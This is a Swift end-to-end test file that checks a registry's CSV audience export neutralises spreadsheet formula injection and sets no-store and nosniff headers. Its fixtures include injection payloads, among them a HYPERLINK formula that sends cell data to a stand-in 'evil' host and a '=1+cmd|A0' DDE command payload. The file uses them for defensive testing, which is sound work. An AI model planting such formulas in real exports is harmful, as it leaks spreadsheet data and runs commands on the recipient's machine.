import RegistryTestSupport
import Testing

extension EndToEnd {
    @Suite("Exports are safe in spreadsheets, and responses are neither cached nor sniffed")
    struct SpreadsheetTests {
        /// Texts of a phone, and what a spreadsheet gets.
        private static let formulas = [
            "=HYPERLINK(\"http://evil/?\"&A1,\"x\")": "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+1": "'+1",
            "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t'=1", "\r=1": "'\r'=1",
            // Cells of their own where the list separator is a semicolon or a tab, and at the end of a line.
            "x;=1+cmd|A0;y": "x;'=1+cmd|A0;y", "x\t@SUM(A1)": "x\t'@SUM(A1)",
            "x; \"=1\"": "x; \"'=1\"", "x\n-1": "x\n'-1", "a-b; c=d": "a-b; c=d",
        ]

        private func make() async throws -> RegistryApp {
            let app = try await RegistryApp.make()
            for (number, formula) in (Self.formulas.keys.sorted() + ["Telekom"]).enumerated() {
                var device = SampleRegistration.device("phone-\(number)")
                device["carrier"] = .string(formula)
                device["timeZoneId"] = "America/New_York"
                device["timeZoneOffset"] = -18_000
                let body = SampleRegistration.make("phone-\(number)", device: device)
                _ = try await app.put("phone-\(number)", body, by: .role(.client))
            }
            return app
        }

        private func export(
            _ app: RegistryApp, by role: RegistryApp.Role, _ more: [String: JSON] = [:]
        ) async throws -> HTTPResponse {
            let body: [String: JSON] = [
                "filter": [:], "format": "csv", "fields": ["carrier", "utcOffset", "location"],
            ]
            return try await app.send("POST", "/audience/export", .object(body.merging(more) { $1 }), by: .role(role))
        }

        @Test func cells_areNeutralised_forMarketing_andOnRequest() async throws {
            let app = try await make()
            for response in [
                try await export(app, by: .marketing), try await export(app, by: .sender, ["spreadsheetSafe": true]),
            ] {
                for (formula, safe) in Self.formulas {
                    let cell = { (text: String) in
                        let escaped = text.replacing("\"", with: "\"\"")
                        let isQuoted = text.utf8.contains { ",;\"\r\n".utf8.contains($0) }
                        return isQuoted ? "\r\n\"\(escaped)\",-18000" : "\r\n\(escaped),-18000"
                    }
                    #expect(response.text.contains(cell(safe)), "\(formula)")
                    #expect(safe == formula || !response.text.contains(cell(formula)), "\(formula)")
                }
                #expect(response.text.contains("\r\nTelekom,-18000,52.52 13.4\r\n"), "true numbers are left alone")
            }
        }

        @Test func cells_areUnchanged_forSenders_andOnRequest() async throws {
            let app = try await make()
            for response in [
                try await export(app, by: .sender), try await export(app, by: .marketing, ["spreadsheetSafe": false]),
            ] {
                #expect(!response.text.contains("'") && response.text.contains("\r\n-2+3,"))
            }
            let lines = try await export(app, by: .marketing, ["format": "ndjson"])
            #expect(!lines.text.contains("'"), "JSON has no cells")
        }

        @Test(arguments: [",", ";"])
        func file_isOneOfTheSpreadsheetsLanguage(separator: String) async throws {
            let app = try await make()
            let file = try await export(app, by: .marketing, ["spreadsheetSeparator": .string(separator)]).text
            #expect(file.hasPrefix("\u{FEFF}" + ["carrier", "utcOffset", "location\r\n"].joined(separator: separator)))
            #expect(file.contains("\r\n" + ["Telekom", "-18000", "52.52 13.4\r\n"].joined(separator: separator)))
            #expect(file.contains("\r\n" + ["\"x;'=1+cmd|A0;y\"", "-18000"].joined(separator: separator)))
            let refused = try await export(app, by: .marketing, ["spreadsheetSeparator": "|"])
            #expect(refused.status == 400 && refused.text.contains("/spreadsheetSeparator"), "\(refused.text)")
        }

        @Test func responses_areNeitherCachedNorSniffed() async throws {
            let app = try await make()
            let file = try await export(app, by: .marketing)
            #expect(file["Content-Disposition"] == "attachment; filename=\"\(app.id)-audience.csv\"")
            let responses = [
                file, try await app.get("phone-0"), try await app.put("phone-0"), try await app.delete("phone-0"),
                try await app.get("nobody"), try await app.get("phone-1", by: .none),
                try await app.send("GET", "/nothing"), try await app.send("PATCH", "/keys"),
                try await app.registry.send("GET", "/v1/apps"), try await app.send("GET", "/changes"),
            ]
            for response in responses {
                #expect(response["Cache-Control"] == "no-store", "\(response.status) \(response.text)")
                #expect(response["X-Content-Type-Options"] == "nosniff", "\(response.status) \(response.text)")
            }
            for path in ["/", "/openapi.json", "/errors", "/metrics", "/healthz", "/readyz"] {
                let response = try await app.registry.send("GET", path, key: nil)
                #expect(response["X-Content-Type-Options"] == "nosniff", "\(path)")
            }
        }
    }
}
